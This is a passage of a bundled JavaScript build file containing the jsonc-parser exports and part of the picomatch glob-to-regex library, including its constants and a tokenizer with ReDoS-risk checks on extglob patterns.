        SyntaxKind[SyntaxKind["BlockCommentTrivia"] = 13] = "BlockCommentTrivia";
        SyntaxKind[SyntaxKind["LineBreakTrivia"] = 14] = "LineBreakTrivia";
        SyntaxKind[SyntaxKind["Trivia"] = 15] = "Trivia";
        SyntaxKind[SyntaxKind["Unknown"] = 16] = "Unknown";
        SyntaxKind[SyntaxKind["EOF"] = 17] = "EOF";
    })(SyntaxKind || (exports.SyntaxKind = SyntaxKind = {}));
    /**
     * For a given offset, evaluate the location in the JSON document. Each segment in the location path is either a property name or an array index.
     */
    exports.getLocation = parser.getLocation;
    /**
     * Parses the given text and returns the object the JSON content represents. On invalid input, the parser tries to be as fault tolerant as possible, but still return a result.
     * Therefore, always check the errors list to find out if the input was valid.
     */
    exports.parse = parser.parse;
    /**
     * Parses the given text and returns a tree representation the JSON content. On invalid input, the parser tries to be as fault tolerant as possible, but still return a result.
     */
    exports.parseTree = parser.parseTree;
    /**
     * Finds the node at the given path in a JSON DOM.
     */
    exports.findNodeAtLocation = parser.findNodeAtLocation;
    /**
     * Finds the innermost node at the given offset. If includeRightBound is set, also finds nodes that end at the given offset.
     */
    exports.findNodeAtOffset = parser.findNodeAtOffset;
    /**
     * Gets the JSON path of the given JSON DOM node
     */
    exports.getNodePath = parser.getNodePath;
    /**
     * Evaluates the JavaScript object of the given JSON DOM node
     */
    exports.getNodeValue = parser.getNodeValue;
    /**
     * Parses the given text and invokes the visitor functions for each object, array and literal reached.
     */
    exports.visit = parser.visit;
    /**
     * Takes JSON with JavaScript-style comments and remove
     * them. Optionally replaces every none-newline character
     * of comments with a replaceCharacter
     */
    exports.stripComments = parser.stripComments;
    var ParseErrorCode;
    (function (ParseErrorCode) {
        ParseErrorCode[ParseErrorCode["InvalidSymbol"] = 1] = "InvalidSymbol";
        ParseErrorCode[ParseErrorCode["InvalidNumberFormat"] = 2] = "InvalidNumberFormat";
        ParseErrorCode[ParseErrorCode["PropertyNameExpected"] = 3] = "PropertyNameExpected";
        ParseErrorCode[ParseErrorCode["ValueExpected"] = 4] = "ValueExpected";
        ParseErrorCode[ParseErrorCode["ColonExpected"] = 5] = "ColonExpected";
        ParseErrorCode[ParseErrorCode["CommaExpected"] = 6] = "CommaExpected";
        ParseErrorCode[ParseErrorCode["CloseBraceExpected"] = 7] = "CloseBraceExpected";
        ParseErrorCode[ParseErrorCode["CloseBracketExpected"] = 8] = "CloseBracketExpected";
        ParseErrorCode[ParseErrorCode["EndOfFileExpected"] = 9] = "EndOfFileExpected";
        ParseErrorCode[ParseErrorCode["InvalidCommentToken"] = 10] = "InvalidCommentToken";
        ParseErrorCode[ParseErrorCode["UnexpectedEndOfComment"] = 11] = "UnexpectedEndOfComment";
        ParseErrorCode[ParseErrorCode["UnexpectedEndOfString"] = 12] = "UnexpectedEndOfString";
        ParseErrorCode[ParseErrorCode["UnexpectedEndOfNumber"] = 13] = "UnexpectedEndOfNumber";
        ParseErrorCode[ParseErrorCode["InvalidUnicode"] = 14] = "InvalidUnicode";
        ParseErrorCode[ParseErrorCode["InvalidEscapeCharacter"] = 15] = "InvalidEscapeCharacter";
        ParseErrorCode[ParseErrorCode["InvalidCharacter"] = 16] = "InvalidCharacter";
    })(ParseErrorCode || (exports.ParseErrorCode = ParseErrorCode = {}));
    function printParseErrorCode(code) {
        switch (code) {
            case 1 /* ParseErrorCode.InvalidSymbol */: return 'InvalidSymbol';
            case 2 /* ParseErrorCode.InvalidNumberFormat */: return 'InvalidNumberFormat';
            case 3 /* ParseErrorCode.PropertyNameExpected */: return 'PropertyNameExpected';
            case 4 /* ParseErrorCode.ValueExpected */: return 'ValueExpected';
            case 5 /* ParseErrorCode.ColonExpected */: return 'ColonExpected';
            case 6 /* ParseErrorCode.CommaExpected */: return 'CommaExpected';
            case 7 /* ParseErrorCode.CloseBraceExpected */: return 'CloseBraceExpected';
            case 8 /* ParseErrorCode.CloseBracketExpected */: return 'CloseBracketExpected';
            case 9 /* ParseErrorCode.EndOfFileExpected */: return 'EndOfFileExpected';
            case 10 /* ParseErrorCode.InvalidCommentToken */: return 'InvalidCommentToken';
            case 11 /* ParseErrorCode.UnexpectedEndOfComment */: return 'UnexpectedEndOfComment';
            case 12 /* ParseErrorCode.UnexpectedEndOfString */: return 'UnexpectedEndOfString';
            case 13 /* ParseErrorCode.UnexpectedEndOfNumber */: return 'UnexpectedEndOfNumber';
            case 14 /* ParseErrorCode.InvalidUnicode */: return 'InvalidUnicode';
            case 15 /* ParseErrorCode.InvalidEscapeCharacter */: return 'InvalidEscapeCharacter';
            case 16 /* ParseErrorCode.InvalidCharacter */: return 'InvalidCharacter';
        }
        return '<unknown ParseErrorCode>';
    }
    exports.printParseErrorCode = printParseErrorCode;
    /**
     * Computes the edit operations needed to format a JSON document.
     *
     * @param documentText The input text
     * @param range The range to format or `undefined` to format the full content
     * @param options The formatting options
     * @returns The edit operations describing the formatting changes to the original document following the format described in {@linkcode EditResult}.
     * To apply the edit operations to the input, use {@linkcode applyEdits}.
     */
    function format(documentText, range, options) {
        return formatter.format(documentText, range, options);
    }
    exports.format = format;
    /**
     * Computes the edit operations needed to modify a value in the JSON document.
     *
     * @param documentText The input text
     * @param path The path of the value to change. The path represents either to the document root, a property or an array item.
     * If the path points to an non-existing property or item, it will be created.
     * @param value The new value for the specified property or item. If the value is undefined,
     * the property or item will be removed.
     * @param options Options
     * @returns The edit operations describing the changes to the original document, following the format described in {@linkcode EditResult}.
     * To apply the edit operations to the input, use {@linkcode applyEdits}.
     */
    function modify(text, path, value, options) {
        return edit.setProperty(text, path, value, options);
    }
    exports.modify = modify;
    /**
     * Applies edits to an input string.
     * @param text The input text
     * @param edits Edit operations following the format described in {@linkcode EditResult}.
     * @returns The text with the applied edits.
     * @throws An error if the edit operations are not well-formed as described in {@linkcode EditResult}.
     */
    function applyEdits(text, edits) {
        let sortedEdits = edits.slice(0).sort((a, b) => {
            const diff = a.offset - b.offset;
            if (diff === 0) {
                return a.length - b.length;
            }
            return diff;
        });
        let lastModifiedOffset = text.length;
        for (let i = sortedEdits.length - 1; i >= 0; i--) {
            let e = sortedEdits[i];
            if (e.offset + e.length <= lastModifiedOffset) {
                text = edit.applyEdit(text, e);
            }
            else {
                throw new Error('Overlapping edit');
            }
            lastModifiedOffset = e.offset;
        }
        return text;
    }
    exports.applyEdits = applyEdits;
});


/***/ }),

/***/ 4006:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const pico = __nccwpck_require__(8016);
const utils = __nccwpck_require__(4059);

function picomatch(glob, options, returnState = false) {
  // default to os.platform()
  if (options && (options.windows === null || options.windows === undefined)) {
    // don't mutate the original options object
    options = { ...options, windows: utils.isWindows() };
  }

  return pico(glob, options, returnState);
}

Object.assign(picomatch, pico);
module.exports = picomatch;


/***/ }),

/***/ 5595:
/***/ ((module) => {



const WIN_SLASH = '\\\\/';
const WIN_NO_SLASH = `[^${WIN_SLASH}]`;

const DEFAULT_MAX_EXTGLOB_RECURSION = 0;

/**
 * Posix glob regex
 */

const DOT_LITERAL = '\\.';
const PLUS_LITERAL = '\\+';
const QMARK_LITERAL = '\\?';
const SLASH_LITERAL = '\\/';
const ONE_CHAR = '(?=.)';
const QMARK = '[^/]';
const END_ANCHOR = `(?:${SLASH_LITERAL}|$)`;
const START_ANCHOR = `(?:^|${SLASH_LITERAL})`;
const DOTS_SLASH = `${DOT_LITERAL}{1,2}${END_ANCHOR}`;
const NO_DOT = `(?!${DOT_LITERAL})`;
const NO_DOTS = `(?!${START_ANCHOR}${DOTS_SLASH})`;
const NO_DOT_SLASH = `(?!${DOT_LITERAL}{0,1}${END_ANCHOR})`;
const NO_DOTS_SLASH = `(?!${DOTS_SLASH})`;
const QMARK_NO_DOT = `[^.${SLASH_LITERAL}]`;
const STAR = `${QMARK}*?`;
const SEP = '/';

const POSIX_CHARS = {
  DOT_LITERAL,
  PLUS_LITERAL,
  QMARK_LITERAL,
  SLASH_LITERAL,
  ONE_CHAR,
  QMARK,
  END_ANCHOR,
  DOTS_SLASH,
  NO_DOT,
  NO_DOTS,
  NO_DOT_SLASH,
  NO_DOTS_SLASH,
  QMARK_NO_DOT,
  STAR,
  START_ANCHOR,
  SEP
};

/**
 * Windows glob regex
 */

const WINDOWS_CHARS = {
  ...POSIX_CHARS,

  SLASH_LITERAL: `[${WIN_SLASH}]`,
  QMARK: WIN_NO_SLASH,
  STAR: `${WIN_NO_SLASH}*?`,
  DOTS_SLASH: `${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$)`,
  NO_DOT: `(?!${DOT_LITERAL})`,
  NO_DOTS: `(?!(?:^|[${WIN_SLASH}])${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
  NO_DOT_SLASH: `(?!${DOT_LITERAL}{0,1}(?:[${WIN_SLASH}]|$))`,
  NO_DOTS_SLASH: `(?!${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
  QMARK_NO_DOT: `[^.${WIN_SLASH}]`,
  START_ANCHOR: `(?:^|[${WIN_SLASH}])`,
  END_ANCHOR: `(?:[${WIN_SLASH}]|$)`,
  SEP: '\\'
};

/**
 * POSIX Bracket Regex
 */

const POSIX_REGEX_SOURCE = {
  __proto__: null,
  alnum: 'a-zA-Z0-9',
  alpha: 'a-zA-Z',
  ascii: '\\x00-\\x7F',
  blank: ' \\t',
  cntrl: '\\x00-\\x1F\\x7F',
  digit: '0-9',
  graph: '\\x21-\\x7E',
  lower: 'a-z',
  print: '\\x20-\\x7E ',
  punct: '\\-!"#$%&\'()\\*+,./:;<=>?@[\\]^_`{|}~',
  space: ' \\t\\r\\n\\v\\f',
  upper: 'A-Z',
  word: 'A-Za-z0-9_',
  xdigit: 'A-Fa-f0-9'
};

module.exports = {
  DEFAULT_MAX_EXTGLOB_RECURSION,
  MAX_LENGTH: 1024 * 64,
  POSIX_REGEX_SOURCE,

  // regular expressions
  REGEX_BACKSLASH: /\\(?![*+?^${}(|)[\]])/g,
  REGEX_NON_SPECIAL_CHARS: /^[^@![\].,$*+?^{}()|\\/]+/,
  REGEX_SPECIAL_CHARS: /[-*+?.^${}(|)[\]]/,
  REGEX_SPECIAL_CHARS_BACKREF: /(\\?)((\W)(\3*))/g,
  REGEX_SPECIAL_CHARS_GLOBAL: /([-*+?.^${}(|)[\]])/g,
  REGEX_REMOVE_BACKSLASH: /(?:\[.*?[^\\]\]|\\(?=.))/g,

  // Replace globs with equivalent patterns to reduce parsing time.
  REPLACEMENTS: {
    __proto__: null,
    '***': '*',
    '**/**': '**',
    '**/**/**': '**'
  },

  // Digits
  CHAR_0: 48, /* 0 */
  CHAR_9: 57, /* 9 */

  // Alphabet chars.
  CHAR_UPPERCASE_A: 65, /* A */
  CHAR_LOWERCASE_A: 97, /* a */
  CHAR_UPPERCASE_Z: 90, /* Z */
  CHAR_LOWERCASE_Z: 122, /* z */

  CHAR_LEFT_PARENTHESES: 40, /* ( */
  CHAR_RIGHT_PARENTHESES: 41, /* ) */

  CHAR_ASTERISK: 42, /* * */

  // Non-alphabetic chars.
  CHAR_AMPERSAND: 38, /* & */
  CHAR_AT: 64, /* @ */
  CHAR_BACKWARD_SLASH: 92, /* \ */
  CHAR_CARRIAGE_RETURN: 13, /* \r */
  CHAR_CIRCUMFLEX_ACCENT: 94, /* ^ */
  CHAR_COLON: 58, /* : */
  CHAR_COMMA: 44, /* , */
  CHAR_DOT: 46, /* . */
  CHAR_DOUBLE_QUOTE: 34, /* " */
  CHAR_EQUAL: 61, /* = */
  CHAR_EXCLAMATION_MARK: 33, /* ! */
  CHAR_FORM_FEED: 12, /* \f */
  CHAR_FORWARD_SLASH: 47, /* / */
  CHAR_GRAVE_ACCENT: 96, /* ` */
  CHAR_HASH: 35, /* # */
  CHAR_HYPHEN_MINUS: 45, /* - */
  CHAR_LEFT_ANGLE_BRACKET: 60, /* < */
  CHAR_LEFT_CURLY_BRACE: 123, /* { */
  CHAR_LEFT_SQUARE_BRACKET: 91, /* [ */
  CHAR_LINE_FEED: 10, /* \n */
  CHAR_NO_BREAK_SPACE: 160, /* \u00A0 */
  CHAR_PERCENT: 37, /* % */
  CHAR_PLUS: 43, /* + */
  CHAR_QUESTION_MARK: 63, /* ? */
  CHAR_RIGHT_ANGLE_BRACKET: 62, /* > */
  CHAR_RIGHT_CURLY_BRACE: 125, /* } */
  CHAR_RIGHT_SQUARE_BRACKET: 93, /* ] */
  CHAR_SEMICOLON: 59, /* ; */
  CHAR_SINGLE_QUOTE: 39, /* ' */
  CHAR_SPACE: 32, /*   */
  CHAR_TAB: 9, /* \t */
  CHAR_UNDERSCORE: 95, /* _ */
  CHAR_VERTICAL_LINE: 124, /* | */
  CHAR_ZERO_WIDTH_NOBREAK_SPACE: 65279, /* \uFEFF */

  /**
   * Create EXTGLOB_CHARS
   */

  extglobChars(chars) {
    return {
      '!': { type: 'negate', open: '(?:(?!(?:', close: `))${chars.STAR})` },
      '?': { type: 'qmark', open: '(?:', close: ')?' },
      '+': { type: 'plus', open: '(?:', close: ')+' },
      '*': { type: 'star', open: '(?:', close: ')*' },
      '@': { type: 'at', open: '(?:', close: ')' }
    };
  },

  /**
   * Create GLOB_CHARS
   */

  globChars(win32) {
    return win32 === true ? WINDOWS_CHARS : POSIX_CHARS;
  }
};


/***/ }),

/***/ 8265:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const constants = __nccwpck_require__(5595);
const utils = __nccwpck_require__(4059);

/**
 * Constants
 */

const {
  MAX_LENGTH,
  POSIX_REGEX_SOURCE,
  REGEX_NON_SPECIAL_CHARS,
  REGEX_SPECIAL_CHARS_BACKREF,
  REPLACEMENTS
} = constants;

/**
 * Helpers
 */

const expandRange = (args, options) => {
  if (typeof options.expandRange === 'function') {
    return options.expandRange(...args, options);
  }

  args.sort();
  const value = `[${args.join('-')}]`;

  try {
    /* eslint-disable-next-line no-new */
    new RegExp(value);
  } catch (ex) {
    return args.map(v => utils.escapeRegex(v)).join('..');
  }

  return value;
};

/**
 * Create the message for a syntax error
 */

const syntaxError = (type, char) => {
  return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
};

const splitTopLevel = input => {
  const parts = [];
  let bracket = 0;
  let paren = 0;
  let quote = 0;
  let value = '';
  let escaped = false;

  for (const ch of input) {
    if (escaped === true) {
      value += ch;
      escaped = false;
      continue;
    }

    if (ch === '\\') {
      value += ch;
      escaped = true;
      continue;
    }

    if (ch === '"') {
      quote = quote === 1 ? 0 : 1;
      value += ch;
      continue;
    }

    if (quote === 0) {
      if (ch === '[') {
        bracket++;
      } else if (ch === ']' && bracket > 0) {
        bracket--;
      } else if (bracket === 0) {
        if (ch === '(') {
          paren++;
        } else if (ch === ')' && paren > 0) {
          paren--;
        } else if (ch === '|' && paren === 0) {
          parts.push(value);
          value = '';
          continue;
        }
      }
    }

    value += ch;
  }

  parts.push(value);
  return parts;
};

const isPlainBranch = branch => {
  let escaped = false;

  for (const ch of branch) {
    if (escaped === true) {
      escaped = false;
      continue;
    }

    if (ch === '\\') {
      escaped = true;
      continue;
    }

    if (/[?*+@!()[\]{}]/.test(ch)) {
      return false;
    }
  }

  return true;
};

const normalizeSimpleBranch = branch => {
  let value = branch.trim();
  let changed = true;

  while (changed === true) {
    changed = false;

    if (/^@\([^\\()[\]{}|]+\)$/.test(value)) {
      value = value.slice(2, -1);
      changed = true;
    }
  }

  if (!isPlainBranch(value)) {
    return;
  }

  return value.replace(/\\(.)/g, '$1');
};

const hasRepeatedCharPrefixOverlap = branches => {
  const values = branches.map(normalizeSimpleBranch).filter(Boolean);

  for (let i = 0; i < values.length; i++) {
    for (let j = i + 1; j < values.length; j++) {
      const a = values[i];
      const b = values[j];
      const char = a[0];

      if (!char || a !== char.repeat(a.length) || b !== char.repeat(b.length)) {
        continue;
      }

      if (a === b || a.startsWith(b) || b.startsWith(a)) {
        return true;
      }
    }
  }

  return false;
};

const parseRepeatedExtglob = (pattern, requireEnd = true) => {
  if ((pattern[0] !== '+' && pattern[0] !== '*') || pattern[1] !== '(') {
    return;
  }

  let bracket = 0;
  let paren = 0;
  let quote = 0;
  let escaped = false;

  for (let i = 1; i < pattern.length; i++) {
    const ch = pattern[i];

    if (escaped === true) {
      escaped = false;
      continue;
    }

    if (ch === '\\') {
      escaped = true;
      continue;
    }

    if (ch === '"') {
      quote = quote === 1 ? 0 : 1;
      continue;
    }

    if (quote === 1) {
      continue;
    }

    if (ch === '[') {
      bracket++;
      continue;
    }

    if (ch === ']' && bracket > 0) {
      bracket--;
      continue;
    }

    if (bracket > 0) {
      continue;
    }

    if (ch === '(') {
      paren++;
      continue;
    }

    if (ch === ')') {
      paren--;

      if (paren === 0) {
        if (requireEnd === true && i !== pattern.length - 1) {
          return;
        }

        return {
          type: pattern[0],
          body: pattern.slice(2, i),
          end: i
        };
      }
    }
  }
};

const buildCharClassStar = chars => {
  const source = chars.length === 1
    ? utils.escapeRegex(chars[0])
    : `[${chars.map(ch => utils.escapeRegex(ch)).join('')}]`;

  return `${source}*`;
};

const getStarExtglobSequenceChars = pattern => {
  let index = 0;
  const chars = [];

  while (index < pattern.length) {
    const match = parseRepeatedExtglob(pattern.slice(index), false);

    if (!match || match.type !== '*') {
      return;
    }

    const branches = splitTopLevel(match.body).map(branch => branch.trim());
    if (branches.length !== 1) {
      return;
    }

    const branch = normalizeSimpleBranch(branches[0]);
    if (!branch || branch.length !== 1) {
      return;
    }

    chars.push(branch);
    index += match.end + 1;
  }

  if (chars.length < 1) {
    return;
  }

  return chars;
};

const repeatedExtglobRecursion = pattern => {
  let depth = 0;
  let value = pattern.trim();
  let match = parseRepeatedExtglob(value);

  while (match) {
    depth++;
    value = match.body.trim();
    match = parseRepeatedExtglob(value);
  }

  return depth;
};

const analyzeRepeatedExtglob = (body, options) => {
  if (options.maxExtglobRecursion === false) {
    return { risky: false };
  }

  const max =
    typeof options.maxExtglobRecursion === 'number'
      ? options.maxExtglobRecursion
      : constants.DEFAULT_MAX_EXTGLOB_RECURSION;

  const branches = splitTopLevel(body).map(branch => branch.trim());

  if (branches.length > 1) {
    if (
      branches.some(branch => branch === '') ||
      branches.some(branch => /^[*?]+$/.test(branch)) ||
      hasRepeatedCharPrefixOverlap(branches)
    ) {
      return { risky: true };
    }
  }

  // A repeated extglob is "risky" (prone to catastrophic backtracking) when a
  // branch is itself a `*(...)` sequence, since that nests an unbounded quantifier
  // inside the outer `+(...)`/`*(...)`. When *every* branch reduces to single
  // characters we can emit one flat, ReDoS-safe character class that preserves the
  // meaning of ALL branches (e.g. `+(*(a)|*(b))` -> `[ab]*`), rather than dropping
  // every branch but the first.
  const safeChars = [];
  let sawStarSequence = false;
  let combinable = true;

  for (const branch of branches) {
    const chars = getStarExtglobSequenceChars(branch);
    if (chars) {
      sawStarSequence = true;
      safeChars.push(...chars);
      continue;
    }

    const literal = normalizeSimpleBranch(branch);
    if (literal && literal.length === 1) {
      safeChars.push(literal);
      continue;
    }

    combinable = false;

    if (repeatedExtglobRecursion(branch) > max) {
      return { risky: true };
    }
  }

  if (sawStarSequence) {
    return combinable
      ? { risky: true, safeOutput: buildCharClassStar([...new Set(safeChars)]) }
      : { risky: true };
  }

  return { risky: false };
};

/**
 * Parse the given input string.
 * @param {String} input
 * @param {Object} options
 * @return {Object}
 */

const parse = (input, options) => {
  if (typeof input !== 'string') {
    throw new TypeError('Expected a string');
  }

  input = REPLACEMENTS[input] || input;

  const opts = { ...options };
  const max = typeof opts.maxLength === 'number' ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;

  let len = input.length;
  if (len > max) {
    throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
  }

  const bos = { type: 'bos', value: '', output: opts.prepend || '' };
  const tokens = [bos];

  const capture = opts.capture ? '' : '?:';

  // create constants based on platform, for windows or posix
  const PLATFORM_CHARS = constants.globChars(opts.windows);
  const EXTGLOB_CHARS = constants.extglobChars(PLATFORM_CHARS);

  const {
    DOT_LITERAL,
    PLUS_LITERAL,
    SLASH_LITERAL,
    ONE_CHAR,
    DOTS_SLASH,
    NO_DOT,
    NO_DOT_SLASH,
    NO_DOTS_SLASH,
    QMARK,
    QMARK_NO_DOT,
    STAR,
    START_ANCHOR
  } = PLATFORM_CHARS;

  const globstar = opts => {
    return `(${capture}(?:(?!${START_ANCHOR}${opts.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
  };

  const nodot = opts.dot ? '' : NO_DOT;
  const qmarkNoDot = opts.dot ? QMARK : QMARK_NO_DOT;
  let star = opts.bash === true ? globstar(opts) : STAR;

  if (opts.capture) {
    star = `(${star})`;
  }

  // minimatch options support
  if (typeof opts.noext === 'boolean') {
    opts.noextglob = opts.noext;
  }

  const state = {
    input,
    index: -1,
    start: 0,
    dot: opts.dot === true,
    consumed: '',
    output: '',
    prefix: '',
    backtrack: false,
    negated: false,
    brackets: 0,
    braces: 0,
    parens: 0,
    quotes: 0,
    globstar: false,
    tokens
  };

  input = utils.removePrefix(input, state);
  len = input.length;

  const extglobs = [];
  const braces = [];
  const stack = [];
  let prev = bos;
  let value;

  /**
   * Tokenizing helpers
   */

  const eos = () => state.index === len - 1;
  const peek = state.peek = (n = 1) => input[state.index + n];
  const advance = state.advance = () => input[++state.index] || '';
  const remaining = () => input.slice(state.index + 1);
  const consume = (value = '', num = 0) => {
    state.consumed += value;
    state.index += num;
  };

  const append = token => {
    state.output += token.output != null ? token.output : token.value;
    consume(token.value);
  };

  const negate = () => {
    let count = 1;

    while (peek() === '!' && (peek(2) !== '(' || peek(3) === '?')) {
      advance();
      state.start++;
      count++;
    }

    if (count % 2 === 0) {
      return false;
    }

    state.negated = true;
    state.start++;
    return true;
  };

  const increment = type => {
    state[type]++;
    stack.push(type);
  };

  const decrement = type => {
    state[type]--;
    stack.pop();
  };

  /**
   * Push tokens onto the tokens array. This helper speeds up
   * tokenizing by 1) helping us avoid backtracking as much as possible,
   * and 2) helping us avoid creating extra tokens when consecutive
   * characters are plain text. This improves performance and simplifies
   * lookbehinds.
   */

  const push = tok => {
    if (prev.type === 'globstar') {
      const isBrace = state.braces > 0 && (tok.type === 'comma' || tok.type === 'brace');
      const isExtglob = tok.extglob === true || (extglobs.length && (tok.type === 'pipe' || tok.type === 'paren'));

      if (tok.type !== 'slash' && tok.type !== 'paren' && !isBrace && !isExtglob) {
        state.output = state.output.slice(0, -prev.output.length);
        prev.type = 'star';
        prev.value = '*';
        prev.output = star;
        state.output += prev.output;
      }
    }

    if (extglobs.length && tok.type !== 'paren') {
      extglobs[extglobs.length - 1].inner += tok.value;
    }

    if (tok.value || tok.output) append(tok);
    if (prev && prev.type === 'text' && tok.type === 'text') {
      prev.output = (prev.output || prev.value) + tok.value;
      prev.value += tok.value;
      return;
    }

    tok.prev = prev;
    tokens.push(tok);
    prev = tok;
  };

  const extglobOpen = (type, value) => {
    const token = { ...EXTGLOB_CHARS[value], conditions: 1, inner: '' };

    token.prev = prev;
    token.parens = state.parens;
    token.output = state.output;
    token.startIndex = state.index;
    token.tokensIndex = tokens.length;
    const output = (opts.capture ? '(' : '') + token.open;

    increment('parens');
    push({ type, value, output: state.output ? '' : ONE_CHAR });
    push({ type: 'paren', extglob: true, value: advance(), output });
    extglobs.push(token);
  };

  const extglobClose = token => {
    const literal = input.slice(token.startIndex, state.index + 1);
    const body = input.slice(token.startIndex + 2, state.index);
    const analysis = analyzeRepeatedExtglob(body, opts);

    if ((token.type === 'plus' || token.type === 'star') && analysis.risky) {
      const safeOutput = analysis.safeOutput
        ? (token.output ? '' : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput)
        : undefined;
      const open = tokens[token.tokensIndex];

      open.type = 'text';
      open.value = literal;
      open.output = safeOutput || utils.escapeRegex(literal);

      for (let i = token.tokensIndex + 1; i < tokens.length; i++) {
        tokens[i].value = '';
        tokens[i].output = '';
        delete tokens[i].suffix;
      }

      state.output = token.output + open.output;
      state.backtrack = true;

      push({ type: 'paren', extglob: true, value, output: '' });
      decrement('parens');
      return;
    }

    let output = token.close + (opts.capture ? ')' : '');
    let rest;

    if (token.type === 'negate') {
      let extglobStar = star;

      if (token.inner && token.inner.length > 1 && token.inner.includes('/')) {
        extglobStar = globstar(opts);
      }

      if (extglobStar !== star || eos() || /^\)+$/.test(remaining())) {
        output = token.close = `)$))${extglobStar}`;
      }

      if (token.inner.includes('*') && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
        // Any non-magical string (`.ts`) or even nested expression (`.{ts,tsx}`) can follow after the closing parenthesis.
        // In this case, we need to parse the string and use it in the output of the original pattern.
        // Suitable patterns: `/!(*.d).ts`, `/!(*.d).{ts,tsx}`, `**/!(*-dbg).@(js)`.
        //
        // Disabling the `fastpaths` option due to a problem with parsing strings as `.ts` in the pattern like `**/!(*.d).ts`.
        const expression = parse(rest, { ...options, fastpaths: false }).output;

        output = token.close = `)${expression})${extglobStar})`;
      }

      if (token.prev.type === 'bos') {
        state.negatedExtglob = true;
      }
    }

    push({ type: 'paren', extglob: true, value, output });
    decrement('parens');
  };

  /**
   * Fast paths
   */

  if (opts.fastpaths !== false && !/(^[*!]|[/()[\]{}"])/.test(input)) {
    let backslashes = false;

    let output = input.replace(REGEX_SPECIAL_CHARS_BACKREF, (m, esc, chars, first, rest, index) => {
      if (first === '\\') {
        backslashes = true;
        return m;
      }

      if (first === '?') {
        if (esc) {
          return esc + first + (rest ? QMARK.repeat(rest.length) : '');
        }
        if (index === 0) {
          return qmarkNoDot + (rest ? QMARK.repeat(rest.length) : '');
        }
        return QMARK.repeat(chars.length);
      }

      if (first === '.') {
        return DOT_LITERAL.repeat(chars.length);
      }

      if (first === '*') {
        if (esc) {
          return esc + first + (rest ? star : '');
        }
        return star;
      }
      return esc ? m : `\\${m}`;
    });

    if (backslashes === true) {
      if (opts.unescape === true) {
        output = output.replace(/\\/g, '');
      } else {
        output = output.replace(/\\+/g, m => {
          return m.length % 2 === 0 ? '\\\\' : (m ? '\\' : '');
        });
      }
    }

    if (output === input && opts.contains === true) {
      state.output = input;
      return state;
    }

    state.output = utils.wrapOutput(output, state, options);
    return state;
  }

  /**
   * Tokenize input until we reach end-of-string
   */

  while (!eos()) {
    value = advance();

    if (value === '\u0000') {
      continue;
    }

    /**
     * Escaped characters
     */

    if (value === '\\') {
      const next = peek();

      if (next === '/' && opts.bash !== true) {
        continue;
      }

      if (next === '.' || next === ';') {
        continue;
      }

      if (!next) {
        value += '\\';
        push({ type: 'text', value });
        continue;
      }

      // collapse slashes to reduce potential for exploits
      const match = /^\\+/.exec(remaining());
      let slashes = 0;

      if (match && match[0].length > 2) {
        slashes = match[0].length;
        state.index += slashes;
        if (slashes % 2 !== 0) {
          value += '\\';
        }
      }

      if (opts.unescape === true) {
        value = advance();
      } else {
        value += advance();
      }

      if (state.brackets === 0) {
        push({ type: 'text', value });
        continue;
      }
    }

    /**
     * If we're inside a regex character class, continue
     * until we reach the closing bracket.
     */

    if (state.brackets > 0 && (value !== ']' || prev.value === '[' || prev.value === '[^')) {
      if (opts.posix !== false && value === ':') {
        const inner = prev.value.slice(1);
        if (inner.includes('[')) {
          prev.posix = true;

          if (inner.includes(':')) {
            const idx = prev.value.lastIndexOf('[');
            const pre = prev.value.slice(0, idx);
            const rest = prev.value.slice(idx + 2);
            const posix = POSIX_REGEX_SOURCE[rest];
            if (posix) {
              prev.value = pre + posix;
              state.backtrack = true;
              advance();

              if (!bos.output && tokens.indexOf(prev) === 1) {
                bos.output = ONE_CHAR;
              }
              continue;
            }
          }
        }
      }

      if ((value === '[' && peek() !== ':') || (value === '-' && peek() === ']')) {
        value = `\\${value}`;
      }

      if (value === ']' && (prev.value === '[' || prev.value === '[^')) {
        value = `\\${value}`;
      }

      if (opts.posix === true && value === '!' && prev.value === '[') {
        value = '^';
      }

      prev.value += value;
      append({ value });
      continue;
    }

    /**
     * If we're inside a quoted string, continue
     * until we reach the closing double quote.
     */

    if (state.quotes === 1 && value !== '"') {
      value = utils.escapeRegex(value);
      prev.value += value;
      append({ value });
      continue;
    }

    /**
     * Double quotes
     */

    if (value === '"') {
      state.quotes = state.quotes === 1 ? 0 : 1;
      if (opts.keepQuotes === true) {
        push({ type: 'text', value });
      }
      continue;
    }

    /**
     * Parentheses
     */

    if (value === '(') {
      increment('parens');
      push({ type: 'paren', value });
      continue;
    }

    if (value === ')') {
      if (state.parens === 0 && opts.strictBrackets === true) {
        throw new SyntaxError(syntaxError('opening', '('));
      }

      const extglob = extglobs[extglobs.length - 1];
      if (extglob && state.parens === extglob.parens + 1) {
        extglobClose(extglobs.pop());
        continue;
      }

      push({ type: 'paren', value, output: state.parens ? ')' : '\\)' });
      decrement('parens');
      continue;
    }

    /**
     * Square brackets
     */

    if (value === '[') {
      if (opts.nobracket === true || !remaining().includes(']')) {
        if (opts.nobracket !== true && opts.strictBrackets === true) {
          throw new SyntaxError(syntaxError('closing', ']'));
        }

        value = `\\${value}`;
      } else {
        increment('brackets');
      }

      push({ type: 'bracket', value });
      continue;
    }

    if (value === ']') {
      if (opts.nobracket === true || (prev && prev.type === 'bracket' && prev.value.length === 1)) {
        push({ type: 'text', value, output: `\\${value}` });
        continue;
      }

      if (state.brackets === 0) {
        if (opts.strictBrackets === true) {
          throw new SyntaxError(syntaxError('opening', '['));
        }

        push({ type: 'text', value, output: `\\${value}` });
        continue;
      }

      decrement('brackets');

      const prevValue = prev.value.slice(1);
      if (prev.posix !== true && prevValue[0] === '^' && !prevValue.includes('/')) {
        value = `/${value}`;
      }

      prev.value += value;
      append({ value });

      // when literal brackets are explicitly disabled
      // assume we should match with a regex character class
      if (opts.literalBrackets === false || utils.hasRegexChars(prevValue)) {
        continue;
